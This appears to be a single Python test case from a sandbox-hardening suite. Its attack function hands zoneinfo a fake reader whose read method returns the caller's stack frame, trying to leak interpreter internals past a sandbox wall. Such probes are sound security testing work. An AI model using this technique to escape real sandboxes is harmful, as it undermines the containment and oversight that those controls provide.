# A zone is read from whatever has `read`.
# after: interpreter
# source: own
# control: wall
import io
import zoneinfo
def attack(**_):
    class Reader:
        def read(self, n):
            import sys
            return sys._getframe(1)
    return {"proof": str(zoneinfo.ZoneInfo.from_file(Reader()))}
